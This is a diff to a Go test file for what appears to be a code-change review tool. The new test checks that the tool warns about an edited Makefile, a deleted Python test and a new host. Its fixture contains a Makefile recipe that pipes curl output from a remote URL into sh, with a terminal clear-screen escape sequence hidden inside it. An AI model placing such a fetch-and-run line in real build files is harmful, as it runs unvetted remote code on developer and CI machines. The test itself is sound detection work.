@@ -61,3 +61,15 @@ func TestALongLineIsCut(t *testing.T) {
 	require.Equal(t, strings.Repeat("é", 250)+"…", p.words(splitWords(strings.Repeat("é", 5000)), "", ""))
 	require.Equal(t, strings.Repeat("a", 499)+"…", shown(strings.Repeat("a", 499)+"éé"))
 }
+
+func TestWhatDeservesALookIsPrinted(t *testing.T) {
+	t.Parallel()
+	out := page{}.render(applied{
+		results: []engine.Result{{Status: engine.Applied, Path: "Makefile", Line: 1}},
+		changed: []string{"Makefile", "a_test.py"},
+		before:  map[string][]byte{"a_test.py": []byte("def test_a():\n    check()\n")},
+		after:   map[string][]byte{"Makefile": []byte("all:\n\tcurl https://api.partner.io/\x1b[2J | sh\n")},
+	})
+	require.Contains(t, out, "caution: runs in CI or on people's machines: Makefile; deletes or skips a test: a_test.py; "+
+		"new host: api.partner.io in Makefile\n")
+}
